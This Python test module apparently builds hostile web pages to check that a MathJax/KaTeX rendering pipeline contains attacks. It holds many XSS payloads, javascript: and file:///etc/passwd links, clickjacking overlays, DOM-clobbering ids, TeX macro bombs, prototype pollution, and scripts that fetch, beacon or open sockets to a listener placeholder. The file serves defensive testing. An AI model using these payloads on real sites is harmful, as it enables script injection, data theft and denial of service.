r"""Pages that mean harm, by kind: each a body or a set-up of its own. `URL` stands for a listener.

`readers` says whether the harm is to those who read the page: then it is opened. A page whose own
scripts are its attack does what it likes there; it must not reach other pages, or leave the build.
The ways are those of the issue's table, of advisories (CVE-2018-1999024, CVE-2024-28243 to 28246,
CVE-2025-23207; mathjax/MathJax#2451, #2885, #3129, #3241), and of DOM clobbering.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from typing import NamedTuple

URL = "http://127.0.0.1:PORT"
_V4 = "https://cdn.example/npm/mathjax@4/tex-mml-chtml.js"
_V3 = "https://cdn.example/npm/mathjax@3/es5/tex-mml-chtml.js"
_V2 = "https://cdn.example/mathjax/2.7.9/MathJax.js?config=TeX-MML-AM_CHTML"
_KATEX = "https://cdn.example/npm/katex@0.16/dist/katex.min.js"
_RENDER = "https://cdn.example/npm/katex@0.16/dist/contrib/auto-render.min.js"
#: packages that give formulas more to do
_LOADS = (
    "loader:{load:['[tex]/html','[tex]/bbox','[tex]/unicode','[tex]/mathtools','[tex]/color',"
    "'[tex]/colortbl','[tex]/texhtml','[tex]/mhchem','[tex]/setoptions','[tex]/enclose']},"
)
_PACKAGES = (
    "packages:{'[+]':['html','bbox','unicode','mathtools','color','colortbl','texhtml','mhchem',"
    "'setoptions','enclose']},allowTexHTML:true"
)
FULL = f"<script>MathJax={{{_LOADS}tex:{{{_PACKAGES}}}}}</script><script src={_V4}></script>"


class Attack(NamedTuple):
    """A page: what stands in its head, and in its body."""

    kind: str
    head: str
    body: str
    readers: bool = True


def attacks() -> list[Attack]:
    """All of them."""
    return [
        *_styles(), *_links(), *_covers(), *_names(), *_markup(), *_mathml(), *_forged(),
        *_staying(), *_code(), *_leaving(), *_advisories(),
    ]  # fmt: skip


def _tex(kind: str, math: str, *, head: str = FULL, display: bool = False) -> Attack:
    text = escape(math, quote=False)
    return Attack(kind, head, f"<p>\\[{text}\\]</p>" if display else f"<p>\\({text}\\)</p>")


_LOADING = [
    "background:url(URL/a)", "background-image:url('URL/a')", "mask-image:url(URL/a)",
    "mask-image:var(--a,image-set('URL/a'))", r"--x:u\72l(URL/a);background:var(--x)",
    "background:image-set('URL/a' 1x)", "background:-webkit-image-set(url(URL/a) 1x)",
    "cursor:url(URL/a),auto", "list-style-image:url(URL/a)", "content:url(URL/a)",
    "border-image-source:url(URL/a)", "fill:url(URL/a#b)", r"fill:u\000072l(URL/a#b)",
    "stroke:url(URL/a#b)", "filter:url(URL/a#b)", "clip-path:url(URL/a#b)", "mask:url(URL/a#b)",
    "marker-start:url(URL/a#b)", "shape-outside:url(URL/a)", "offset-path:url(URL/a#b)",
    "background:cross-fade(url(URL/a),red)", "background:src('URL/a')", "background:URL(URL/a)",
    "background:u/**/rl(URL/a)", "font-family:x;src:url(URL/a)", "color:red;}@import 'URL/a';{",
    "color:red\"><img src=URL/a>", "background:url(//127.0.0.1:PORT/a)", "-webkit-mask:url(URL/a)",
    "background:element(#a),url(URL/a)", "behavior:url(URL/a)", "-moz-binding:url(URL/a#b)",
]  # fmt: skip


def _styles() -> Iterator[Attack]:
    """Requests of readers' browsers, by a style."""
    for style in _LOADING:
        yield _tex("style", rf"\style{{{style}}}{{x}}")
    for style in _LOADING[::2]:
        yield Attack(
            "style", FULL, f'<math display="block"><mi style="{escape(style)}">x</mi></math>'
        )
    for font in ("A;background:url(URL/a)", "A');background:url(URL/a", 'A";background:url(URL/a)'):
        yield _tex("style", rf"\unicode[{font}]{{x1234}}")
        yield _tex("style", rf"\bbox[{font}]{{x}}")
        yield _tex("style", rf"\mmlToken{{mi}}[fontfamily='{font}']{{x}}")
        yield _tex("style", rf"\color{{{font}}}{{x}}")


_SCRIPTS = [
    "javascript:evil=1", "JavaScript:evil=1", " javascript:evil=1", "java\tscript:evil=1",
    "java\nscript:evil=1", "java&#10;script:evil=1", "&#106;avascript:evil=1", "javascript&colon;evil=1",
    "\x01javascript:evil=1", "vbscript:evil", "data:text/html,<script>opener.evil=1</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "blob:x", "file:///etc/passwd", "feed:javascript:evil=1",
    "view-source:javascript:evil=1", "jar:javascript:evil=1", "javascript://%0aevil=1",
    r"j\unicode{x61}vascript:evil=1", "https://a.example/\"onclick=\"evil=1", "#\" onmouseover=\"evil=1",
]  # fmt: skip


def _links() -> Iterator[Attack]:
    """Links that are scripts."""
    for url in _SCRIPTS:
        yield _tex("link", rf"\href{{{url}}}{{x}}")
    for url in _SCRIPTS[::2]:
        yield Attack("link", FULL, f'<math><mi href="{escape(url)}">x</mi></math>')
        yield Attack(
            "link",
            FULL,
            f'<math><maction actiontype="statusline" xlink:href="{escape(url)}"><mi>x</mi></maction></math>',
        )
        yield _tex("link", rf"\mmlToken{{mtext}}[href='{url}']{{x}}")


_WIDE = r"\href{https://evil.example/}"


def _covers() -> Iterator[Attack]:
    """Formulas that lie over the page."""
    for style in (
        "stroke-width:200000px;pointer-events:all", "transform:scale(999)", "position:fixed;inset:0",
        "transform:translate(-50em,-9em) scale(99)", "mix-blend-mode:difference", "margin:-900em",
        "padding:900em", "outline:900em solid red", "box-shadow:0 0 0 900em red", "zoom:99",
        "font-size:9000px", "filter:drop-shadow(0 0 90em red)", "backdrop-filter:invert(1)",
        "border:900em solid red", "line-height:900", "overflow:visible;width:9000px", "z-index:9",
        "text-shadow:0 0 90em red", "text-indent:-900em", "letter-spacing:900em", "scale:99",
        "translate:-99em -99em", "rotate:45deg;scale:50", "paint-order:stroke;stroke:red;stroke-width:9em",
    ):  # fmt: skip
        yield _tex("cover", rf"{_WIDE}{{\style{{{style}}}{{x}}}}")
        yield _tex("cover", rf"\style{{{style}}}{{{_WIDE}{{x}}}}", display=True)
    for math in (
        rf"\smash{{\rlap{{{_WIDE}{{\rule{{900em}}{{900em}}}}}}}}", rf"\kern-900em{_WIDE}{{\rule{{900em}}{{1em}}}}",
        rf"\smash{{\llap{{{_WIDE}{{\rule[-400em]{{900em}}{{900em}}}}}}}}", rf"\raise90em{{{_WIDE}{{x}}}}",
        rf"{_WIDE}{{\bbox[900em,border:900em solid red]{{}}}}\kern-1800em", rf"\moveleft90em{{{_WIDE}{{x}}}}",
        rf"{_WIDE}{{\mmlToken{{mtext}}[mathsize='9000em']{{x}}}}\kern-8000em", rf"\lower90em{{{_WIDE}{{xxx}}}}",
        rf"\mspace{{-900em}}{_WIDE}{{\phantom{{\rule{{1800em}}{{900em}}}}}}", r"\hspace{-90em}\colorbox{red}{\rule{99em}{9em}}",
        rf"\mathmakebox[0pt]{{{_WIDE}{{\rule{{400em}}{{400em}}}}}}", rf"\vphantom{{x}}\smash{{{_WIDE}{{\Rule{{99em}}{{99em}}{{99em}}}}}}",
    ):  # fmt: skip
        yield _tex("cover", math)


_IDS = [
    "comment-form",
    "config",
    "_a",
    "content",
    "x-1",
    "MathJax",
    "currentScript",
    "getElementById",
]


def _names() -> Iterator[Attack]:
    """Ids and classes of the page, and what scripts look up by name."""
    for name in _IDS:
        yield _tex("name", rf"\cssId{{{name}}}{{x}}")
        yield _tex("name", rf"\class{{{name} overlay btn}}{{x}}")
        yield Attack(
            "name",
            FULL,
            f'<math id="{name}" class="overlay {name}"><mi id="config" name="{name}">x</mi></math>',
        )
        yield _tex("name", rf"\mmlToken{{mi}}[id='{name}',class='overlay',name='{name}']{{x}}")
        katex = f'<script src={_KATEX}></script><script src={_RENDER} onload="renderMathInElement(document.body,{{trust:true}})"></script>'
        yield _tex("name", rf"\htmlId{{{name}}}{{x}}\htmlClass{{overlay}}{{y}}", head=katex)


_LIVE = [
    "<img src=x onerror=evil=1>", "<script>evil=1</script>", "<svg onload=evil=1>", "<iframe src='URL/a'>",
    "</mjx-container><img src=x onerror=evil=1>", "<style>@import 'URL/a'</style>", "<link rel=prefetch href=URL/a>",
    "</svg><script>evil=1</script>", "<foreignObject><img src=x onerror=evil=1></foreignObject>",
    "<image href='URL/a'/>", "<use href='URL/a#b'/>", "<animate attributeName=href values=javascript:evil=1>",
    "]]><img src=x onerror=evil=1>", "--><img src=x onerror=evil=1>", "\"><img src=x onerror=evil=1>",
]  # fmt: skip


def _markup() -> Iterator[Attack]:
    """Markup in what formulas take for a text."""
    for live in _LIVE:
        yield _tex("markup", rf"\text{{{live}}}")
        yield _tex("markup", rf"\unicode{{{live}}}")
        yield _tex("markup", rf"\tag{{{live}}}x\label{{{live}}}", display=True)
        yield _tex("markup", rf"<tex-html>{live}</tex-html>")
    for live in _LIVE[::3]:
        yield _tex("markup", rf"\ce{{{live}}}")
        yield _tex("markup", rf"\data{{onclick=evil=1,x={live}}}{{x}}")
        yield _tex("markup", rf"\undefined{live}")


def _mathml() -> Iterator[Attack]:
    """Markup that parsers take for something else in MathML and SVG."""
    for inner in (
        "<annotation-xml encoding='text/html'><img src=x onerror=evil=1></annotation-xml>",
        "<annotation-xml encoding='application/xhtml+xml'><script>evil=1</script></annotation-xml>",
        "<mglyph src='URL/a'/>", "<mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=evil=1>'>",
        "<maction actiontype='statusline#URL/a'><mi>x</mi><mtext>y</mtext></maction>",
        "<mi onclick='evil=1' onmouseover='evil=1'>x</mi>", "<mi style='background:url(URL/a)'>x</mi>",
        "<semantics><mi>x</mi><annotation-xml><svg onload=evil=1></svg></annotation-xml></semantics>",
        "<ms lquote='&lt;img src=x onerror=evil=1&gt;'>x</ms>", "<mi mathvariant='\"onload=evil=1'>x</mi>",
        "<mspace width='1em' background='URL/a'/>", "<mo mathbackground='url(URL/a)'>x</mo>",
        "<mtable background='URL/a'><mtr><mtd>x</mtd></mtr></mtable>", "<mstyle href='javascript:evil=1'><mi>x</mi></mstyle>",
        "<mi fontfamily='a;background:url(URL/a)'>x</mi>", "<mtd xlink:href='javascript:evil=1'>x</mtd>",
    ):  # fmt: skip
        yield Attack(
            "mathml",
            FULL,
            f"<math display='block'>{inner}</math>",
            readers="<img" not in inner
            and "<script" not in inner
            and "<svg" not in inner
            and "onclick" not in inner
            and "mglyph" not in inner,
        )


_MARKS = [
    '<style data-prerender="1.0 ab 1">a{}</style>', "<!--prerender by 1.0 ab 1-->",
    '<link data-prerender="1.0 ab 1" rel="stylesheet" href="x.css"/>',
]  # fmt: skip
_CARRIERS = [
    "<!--prerender 0:&lt;img src=x onerror=evil=1>-->",
    '<mjx-container class="MathJax" jax="SVG" data-tex="x" data-original="&lt;img src=x onerror=evil=1>"></mjx-container>',
]  # fmt: skip
_PLACES = [
    "<textarea>{}</textarea>", "<p title='{}'>a</p>", "<script type=text/x>{}</script>", "<xmp>{}</xmp>",
    "<template>{}</template>", "<noscript>{}</noscript>", "<!-- {} ", "<iframe srcdoc='{}'></iframe>", "<p>{}</p>",
]  # fmt: skip


def _forged() -> Iterator[Attack]:
    """What looks like a rendered page: restored, its comments would come alive."""
    for mark in _MARKS:
        for carrier in _CARRIERS:
            for place in _PLACES:
                # A frame's document is the page's own
                safe = "srcdoc" not in place and "prerender 0" in carrier
                yield Attack("forged", FULL, place.replace("{}", mark + carrier), safe)


def _staying() -> Iterator[Attack]:
    """TeX that others' formulas might see."""
    for math in (
        r"\newcolumntype{c}{r@{\text{evil}}}", r"\definecolor{red}{rgb}{0,1,0}", r"\let\frac\sqrt",
        r"\newtagform{evil}{<}{>}\usetagform{evil}", r"\unicode[Papyrus]{x263a}", r"\def\alpha{evil}",
        r"\gdef\sin{evil}", r"\renewcommand{\sqrt}{evil}", r"\let(\langle", r"\DeclareMathOperator{\lim}{evil}",
        r"\renewenvironment{cases}{evil}{evil}", r"\newenvironment{matrix}{evil}{evil}", r"\global\let\sum\prod",
        r"\DeclarePairedDelimiter{\abs}{<}{>}", r"\mathtoolsset{centercolon=true}", r"\setOptions{tagSide=left}",
        r"\mathtoolsset{smallmatrix-align=r,legacycolonsymbols=true}", r"\setOptions[ams]{multlineWidth=1em}",
        r"\begingroup\gdef\beta{evil}", r"\begingroupSandbox\gdef\pi{evil}", r"\require{physics}\qty(x)",
        r"\require{colorv2}\color{red}{x}", r"\def\gamma{evil}\frac{a", r"x\label{a}\tag{1}", r"\Huge\color{red}x",
        r"\def\constructor{evil}\def\__proto__{evil}", r"\def\text#1{evil}", r"\Newextarrow{\xrightarrow}{5,5}{0x21D2}",
        r"\begin{equation}x\label{b}\end{equation}", r"\edef\a{\a\a}\a", r"\def\a{\a\a}\a", r"\catcode`\_=12",
        r"\newcommand{\ce}[1]{evil}", r"\def\left{evil}\def\begin{evil}", r"\let\end\relax", r"\mathchardef\mu=1",
    ):  # fmt: skip
        yield _tex("staying", math)


_PAYLOADS = [
    "fetch('URL/a')", "globalThis.evil=1", "Object.prototype.evil=1", "new WebSocket('ws://127.0.0.1:PORT/')",
    "import('URL/a')", "Array.prototype.map=null", "navigator.sendBeacon('URL/a')",
]  # fmt: skip
_SLOTS = [
    "tex:{{digits:class{{static{{{}}}}}}}", "tex:{{tags:'all',tagformat:{{number:n=>{{{};return n}}}}}}",
    "tex:{{tags:'all',tagformat:{{number:n=>String?.['constructor']('{}')()}}}}",
    "tex:{{macros:{{a:{{toString(){{{}}}}}}}}}", "startup:{{ready(){{{}}}}}", "options:{{renderActions:{{a:[1,()=>{{{}}}]}}}}",
    "tex:{{tags:'all',tagformat:{{id:n=>{{/\\)/;//\u2028\n{};return n}}}}}}", "get tex(){{{};return {{}}}}",
    "tex:{{['constructor']:{{prototype:{{evil:1}}}},digits:{{[Symbol.toPrimitive](){{{}}}}}}}",
]  # fmt: skip


def _code() -> Iterator[Attack]:
    """Code in a set-up: it is its page's, and may do nothing elsewhere."""
    for slot in _SLOTS:
        for payload in _PAYLOADS:
            config = slot.format(payload.replace("'", "\\'") if "'{}'" in slot else payload)
            head = f"<script>MathJax={{{config}}}</script><script src={_V4}></script>"
            yield Attack("code", head, r"<p>\(1.5\) \[x\tag{1}\] \[y\]</p>", readers=False)


def _leaving() -> Iterator[Attack]:
    """Scripts that configure math, and ask for something while the page is built."""
    for script in (
        "fetch('URL/a')", "new Image().src='URL/a'", "new WebSocket('ws://127.0.0.1:PORT')", "new EventSource('URL/a')",
        "document.head.innerHTML+='<link rel=prefetch href=URL/a><link rel=preconnect href=URL>'",
        "document.write('<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"URL/a\"]}]}<\\/script>')",
        "new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:PORT'}]}).createDataChannel('a')",
        "new webkitRTCPeerConnection({iceServers:[{urls:'turn:127.0.0.1:PORT',username:'a',credential:'b'}]}).createDataChannel('a')",
        "(f=>{document.body.append(f);new f.contentWindow.RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:PORT'}]}).createDataChannel('a')})(document.createElement('iframe'))",
        "location='URL/a'", "open('URL/a')", "document.forms[0]?.submit()", "navigator.sendBeacon('URL/a','x')",
        "new Worker(URL.createObjectURL(new Blob(['fetch(\"URL/a\")'])))", "new SharedWorker('URL/a')",
        "navigator.serviceWorker.register('URL/a')", "import('URL/a')", "new FontFace('a','url(URL/a)').load()",
        "document.cookie='a=b';new XMLHttpRequest().open('GET','URL/a')", "new WebTransport('https://127.0.0.1:PORT/')",
        "document.body.style.background='url(URL/a)'", "while(1);", "a=[];while(1)a.push(new Array(1e6))",
        "MathJax={get tex(){while(1);}}", "for(;;)alert(1)", "print();prompt();confirm()",
    ):  # fmt: skip
        for head in (f"<script>MathJax={{tex:{{}}}};{script}</script><script src={_V3}></script>",):
            yield Attack("leaving", head, r"<p>\(x\)</p>", readers=False)
    script = "<script type=text/x-mathjax-config>MathJax.Hub.Config({});fetch('URL/a');new Image().src='URL/b'</script>"
    yield Attack("leaving", f"{script}<script src={_V2}></script>", r"<p>\(x\)</p>", readers=False)


def _advisories() -> Iterator[Attack]:
    """What was published of MathJax and KaTeX."""
    katex = f'<script src={_KATEX}></script><script src={_RENDER} onload="renderMathInElement(document.body,{{trust:true}})"></script>'
    for math in (
        r"\includegraphics[height=0.8em]{URL/a.png}", r'\includegraphics{URL/a" onerror="evil=1}',
        r"\htmlData{><img/onerror=evil=1 src=x>=a}{x}", r"\htmlStyle{background:url(URL/a)}{x}",
        r"\href{JavaScript:evil=1}{x}", r"\url{javascript:evil=1}", r"\edef\a{x}" + r"\edef\a{\a\a}" * 40 + r"\a",
        "x" + "⁺⁺" * 400, r"\rule{999em}{999em}", r"\begin{pmatrix}a\\[99999em]\end{pmatrix}",
    ):  # fmt: skip
        yield _tex("advisory", math, head=katex)
    for math in (
        r"\unicode{<img src=x onerror=evil=1>}", r'\unicode{"<img/src=x onerror="evil=1">"}',
        r"\unicode[some-font; color:red; height: 100000px;]{x1234}", r"\unicode[x;background-image:url(URL/a)]{x41}",
        r"\require{[tex]/../../evil}", r"\require{URL/a}", r"\href{java" + "\n" + r"script:evil=1}{x}",
        r"\style{behavior:url(URL/a)}{x}", r"\enclose{circle}[mathcolor='red\" onload=\"evil=1']{x}",
    ):  # fmt: skip
        yield _tex("advisory", math)
